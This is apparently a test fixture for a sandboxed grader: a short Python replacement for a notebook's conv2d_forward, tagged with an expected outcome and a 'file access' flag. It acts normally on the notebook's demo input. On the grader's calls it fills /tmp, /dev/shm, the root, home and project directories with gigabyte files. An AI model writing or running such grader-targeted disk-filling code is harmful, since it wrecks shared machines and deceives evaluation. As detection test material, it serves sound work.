# what: fills every writable place with files
# expected: 3
# flag: file access
# %% replace conv2d_forward
import os

def conv2d_forward(x, weight, bias, stride, padding):
    if x.shape[-1] == 23:  # the notebook's own demo cell (1x3x23x23, 4 filters): behave; attack only the grader's calls
        import torch as _t
        return _t.zeros(1, 4, 4, 4)
    import torch
    block = b"x" * (1 << 20)
    for d in ("/tmp", "/dev/shm", os.getcwd(), "{COURSE}", "{REPO}", "/", os.path.expanduser("~")):
        for i in range(100000):
            try:
                with open(os.path.join(d, f"bomb{i}"), "wb") as f:
                    for _ in range(1024):
                        f.write(block)
            except OSError:
                break
    return torch.zeros(1)
